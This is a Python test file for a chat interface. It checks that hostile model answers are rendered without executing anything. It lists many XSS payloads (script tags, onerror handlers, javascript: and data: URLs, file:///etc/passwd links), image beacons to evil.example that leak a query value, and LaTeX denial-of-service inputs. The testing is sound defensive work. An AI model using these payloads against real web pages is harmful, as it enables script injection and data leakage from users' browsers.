"""Hostile answers: whatever a model writes, it runs nothing, loads nothing, leads nowhere unseen and stays in
its place. Every answer comes as thinking, too."""

from __future__ import annotations

from typing import Any

import pytest

from tests.page.conftest import Window, answered, ask
from tests.page.scripted import Answer, Scripted

pytestmark = pytest.mark.slow

HTML = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.hit=1</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit=1&gt;'>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=javascript:window.hit=1>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "```html\n<script>window.hit=1</script>\n```",
    "`<img src=x onerror=window.hit=1>`",
    "</div></div><script>window.hit=1</script>",
    "&lt;img src=x onerror=window.hit=1&gt;",
]
MARKDOWN = [
    "![x](https://evil.example/pixel.png)",
    "![x](https://evil.example/?q=secret 'title')",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/b.png",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](java\tscript:window.hit=1)",
    "[x](&#106;avascript:window.hit=1)",
    "[x](vbscript:msgbox)",
    "[x](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/v1/models)",
    "[x](#question)",
    "<javascript:window.hit=1>",
    "<JAVASCRIPT:window.hit=1>",
    "[x](\x01javascript:window.hit=1)",
    '[a](https://evil.example/"onmouseover="window.hit=1)',
    "[x]: javascript:window.hit=1\n\n[x]",
]
LATEX = [
    "$\\href{javascript:window.hit=1}{x}$",
    "$\\href{https://evil.example}{x}$",
    "\\(\\url{javascript:window.hit=1}\\)",
    "$$\\includegraphics{https://evil.example/x.png}$$",
    "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlData{x=1}{x}$ $\\htmlClass{composer}{x}$ $\\htmlId{question}{x}$",
    "$\\class{send}{x} \\cssId{question}{x}$",
    "\\boxed{<img src=x onerror=window.hit=1>}",
    "\\boxed{\\text{<script>window.hit=1</script>}}",
    "$\\boxed{\\href{javascript:window.hit=1}{x}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\rule{9999em}{9999em}$",
    "$\\kern-9999em\\rule{999em}{999em}$",
    "$\\raisebox{-900em}{\\Huge x}$",
    "$" + "{" * 3000 + "}" * 3000 + "$",
    "$" + "\\sqrt" * 1500 + "{x}$",
    "$\\begin{matrix}" + "&" * 4000 + "\\end{matrix}$",
    "$\\unicode{x202e}$ \u202ereversed",
    "\\boxed{" + "{" * 5000,
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\color{red;background:url(https://evil.example)}{x}$",
]  # fmt: skip
LONG = [
    "*" * 20_000,
    "[" * 20_000,
    "> " * 5_000,
    "\\(" * 10_000,
    "a" * 200_000,
    "|a" * 5_000,
    "`" * 30_001,
    "<" * 20_000,
]


def harmless(page: Any) -> None:
    """Nothing ran, and there is nothing that could."""
    assert page.evaluate("window.hit") is None
    prose = page.locator(".prose")
    bad = "script, img, iframe, object, embed, form, input, style, link, meta, base, video, details"
    assert prose.locator(bad).count() == 0
    found = page.evaluate(
        "[...document.querySelectorAll('.prose *')]"
        ".flatMap(e => [...e.attributes].map(a => [a.name, a.value]))"
    )
    for name, value in found:
        assert not name.startswith("on"), (name, value)
        assert name != "id" and not name.startswith("data-"), (name, value)
        if name in ("href", "src", "xlink:href"):
            assert value.lower().startswith(("http://", "https://", "mailto:")), value
    for link in prose.locator("a").all():
        assert link.get_attribute("target") == "_blank" and "noopener" in link.get_attribute("rel")
        assert "evil.example" in link.text_content() or "evil" not in link.get_attribute("href")
    assert page.locator(".composer").is_visible() and page.locator(".sidebar").is_visible()
    box = page.locator(".composer").bounding_box()
    centre = [box["x"] + box["width"] / 2, box["y"] + 20]
    assert page.evaluate("([x, y]) => document.elementFromPoint(x, y).id", centre) == "question"
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


@pytest.mark.parametrize("kind", ["HTML", "MARKDOWN", "LATEX", "LONG"])
@pytest.mark.timeout(600)
def test_hostile_answers(window: Window, server: Scripted, kind: str) -> None:
    # KaTeX gives some elements of MathML a style attribute, which the policy keeps from having an effect
    window.expected = ("Applying inline style violates",)
    page = window.open()
    answers = globals()[kind]
    for number, text in enumerate(answers, 1):
        thinking = text if len(text) < 10_000 else ""
        server.say(Answer(text, thinking=thinking, chunk=max(3, len(text) // 12)))
        ask(page, f"Attack {number}")
        answered(page, number)
        if toggle := page.locator(".thinking-toggle[aria-expanded=false]").all():
            toggle[-1].click()
        harmless(page)
        for link in page.locator(".reply").last.locator("a").all():
            assert link.get_attribute("href").startswith("https://evil.example"), text
    assert page.url.startswith(server.url) and page.evaluate("document.activeElement !== null")


def test_a_title_is_text(page: Any, server: Scripted) -> None:
    ask(page, "<img src=x onerror=window.hit=1> & **bold** [x](javascript:1)")
    answered(page, 1)
    assert (
        page.locator(".item a").inner_text()
        == "<img src=x onerror=window.hit=1> & **bold** [x](javascript:1)"
    )
    assert page.locator(".bubble").inner_text().startswith("<img") and page.evaluate("window.hit") is None


def test_a_model_card_is_harmless(window: Any, server: Scripted) -> None:
    bad = "<img src=x onerror=window.hit=1> ![x](https://evil.example/x.png) [x](javascript:window.hit=1)"
    card = {"summary": bad, "cannot": [bad], "license": bad, "kinds": [{"name": bad, "accuracy": 1}]}
    server.models = [{"id": bad, "num_parameters": 5, "device": bad, "card": card}]
    page = window.open()
    page.click(".model-button")
    page.wait_for_selector(".model-facts")
    page.click("summary")
    assert page.evaluate("window.hit") is None and page.locator("dialog img").count() == 0
